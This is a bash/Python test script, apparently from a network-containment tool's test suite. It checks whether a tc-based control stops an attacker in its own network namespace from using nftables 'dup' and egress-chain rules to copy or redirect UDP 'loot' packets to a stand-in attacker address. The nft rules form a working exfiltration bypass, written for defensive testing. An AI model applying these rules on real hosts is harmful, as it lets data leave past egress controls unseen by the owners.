#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: has netfilter of its own network namespace copy packets to evil before the packet hook sees them (dup), and rewrite or forward them after it (an egress chain, fwd)
# stopped-by: tc
# reason: destination
# kernels: all
#
# Root with CAP_NET_ADMIN in its own network namespace. A copy has lost its socket, so that no program on a
# cgroup is asked; a chain at the device's egress comes after them. Only the interface sees the end.
. "$(dirname "$0")/../interfaces/lib.sh"
need_program nft
container udp/9000
inside_netns "$CLIENT" nft add table ip t 2>/dev/null || skip "this kernel has no nf_tables"

attack_by <<'PYTHON'
from attacker import *
import subprocess

def nft(rules):
    return subprocess.run(["nft", rules], stderr=subprocess.DEVNULL).returncode == 0

nft("delete table ip t; delete table netdev t")
nft("add table ip t; add chain ip t o { type filter hook output priority 0; }")
# The copy comes by here, too; its mark says that it is one.
dup = nft(f"add rule ip t o udp sport 7002 mark != 7 mark set 7 ip daddr set {EVIL4} dup to 192.0.2.1 device eth0 ip daddr set {GOOD4}")
nft("add table netdev t")
egress = nft("add chain netdev t e { type filter hook egress device eth0 priority 0; }") and \
    nft(f"add rule netdev t e udp dport 9000 udp sport 7001 ip daddr set {EVIL4}")
print("dup", dup, "egress", egress)

ready()

def send(tag, port):
    with attempt(tag):
        sock = udp(GOOD4)
        sock.bind((OWN4, port))
        sock.sendto(loot(tag), (GOOD4, 9000))

if egress:
    send("rewritten", 7001)
if dup:
    send("copied", 7002)
with attempt("honest"):
    udp(GOOD4).sendto(honest("good"), (GOOD4, 9000))
PYTHON
works_once_open honest:good
expected=()
grep -q 'dup True' <<<"$SAID" && expected+=('EVIL4 9000 .*stolen:copied')
grep -q 'egress True' <<<"$SAID" && expected+=('EVIL4 9000 .*stolen:rewritten')
((${#expected[@]})) || skip "this kernel neither copies nor has chains at a device's egress"
all_arrived "${expected[@]}"
echo "${expected[*]}"
NOT_COUNTED=' 198\.51\.100\.2 9000 .*stolen:copied' # the copied one may go where it says
stopped_once_open gate
passes honest:good
recorded tc destination
